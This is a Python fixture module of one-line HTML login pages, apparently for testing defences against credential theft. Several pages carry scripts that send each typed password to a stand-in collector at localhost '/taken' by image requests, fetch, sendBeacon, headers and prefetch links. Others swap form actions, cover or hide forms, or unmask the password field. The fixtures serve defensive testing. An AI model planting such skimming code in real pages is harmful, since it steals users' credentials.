"""Pages that ask for a login: honest ones, and ones that are after what is typed into them."""
# ruff: noqa: E501 - a page is one line

__all__ = ["LOGINS"]

_FIELDS = "<input aria-label=User name=user><input aria-label=Password type=password name=word>"


def _page(body: str, title: str = "Log in") -> str:
    return f"<!doctype html><meta charset=utf-8><title>{title}</title><body>{body}"


LOGINS = {
    "signin": _page(f"<h1>Shop</h1><form method=post action=/signed>{_FIELDS}<button>Log in</button></form><p id=p></p>"),
    "twofactor": _page("<form method=post action=/signed><input aria-label=Code name=code inputmode=numeric></form>"),
    "framed": _page("<h1>Free prizes</h1><iframe src=http://localhost:{port}/signin></iframe>"),
    "posts": _page(f"<form method=post action=http://localhost:{{port}}/taken>{_FIELDS}<button>Log in</button></form>"),
    "button": _page(
        f"<form method=post action=/signed>{_FIELDS}<button formaction=http://localhost:{{port}}/taken>Log in</button></form>"
    ),
    "clobbered": _page(
        f"<form method=post action=http://localhost:{{port}}/taken><input name=action value=/signed>{_FIELDS}</form>"
    ),
    "covered": _page(
        f"<form>{_FIELDS}</form><div style='position:fixed;inset:0;background:#fff'>Nothing to see</div>"
    ),
    "faint": _page(f"<form style='opacity:0'>{_FIELDS}</form>"),
    "plainfield": _page("<form><input aria-label=Password name=word></form>"),
    "turns": _page(f"<form>{_FIELDS}</form><button onclick=\"document.querySelector('[type=password]').type='text'\">Show</button>"),
    "echoes": _page(
        f"<form>{_FIELDS}</form><p id=p></p><script>document.querySelector('[type=password]').oninput=e=>{{"
        "p.textContent='You typed '+e.target.value;console.log('typed '+e.target.value);"
        "fetch('/json?q='+encodeURIComponent(e.target.value))}</script>"
    ),
    "sends": _page(
        f"<form>{_FIELDS}</form><p id=p></p><script>document.querySelector('[type=password]').oninput=e=>{{"
        "const w=e.target.value,to='http://localhost:{port}/taken';"
        "new Image().src=to+'?q='+encodeURIComponent(w);new Image().src=to+'?q='+btoa(w);"
        "fetch(to,{method:'POST',mode:'no-cors',body:w}).catch(()=>p.textContent='stopped');"
        "navigator.sendBeacon(to,w)}</script>"
    ),
    "heads": _page(
        f"<form>{_FIELDS}</form><p id=p></p><script>document.querySelector('[type=password]').oninput=e=>{{"
        "const w=e.target.value,to='http://localhost:{port}/taken';"
        "fetch(to,{headers:{'x-word':w}}).catch(()=>fetch(to,{headers:{'x-word':btoa(w)}}))"
        ".catch(()=>p.textContent='stopped')}</script>"
    ),
    "prefetches": _page(
        f"<form>{_FIELDS}</form><p id=p></p><script>document.querySelector('[type=password]').oninput=e=>{{"
        "const l=document.createElement('link');l.rel='prefetch';l.onerror=()=>p.textContent='stopped';"
        "l.href='http://localhost:{port}/taken?q='+encodeURIComponent(e.target.value);document.head.append(l)}</script>"
    ),
    "swaps": _page(
        f"<form id=f method=post action=/signed>{_FIELDS}</form><script>window.go=()=>f.action="
        "'http://localhost:{port}/taken'</script>"
    ),
    "switches": _page(
        f"<form>{_FIELDS}</form><script>const p=document.querySelector('[type=password]');"
        "window.go=()=>p.type='text'</script>"
    ),
}  # fmt: skip
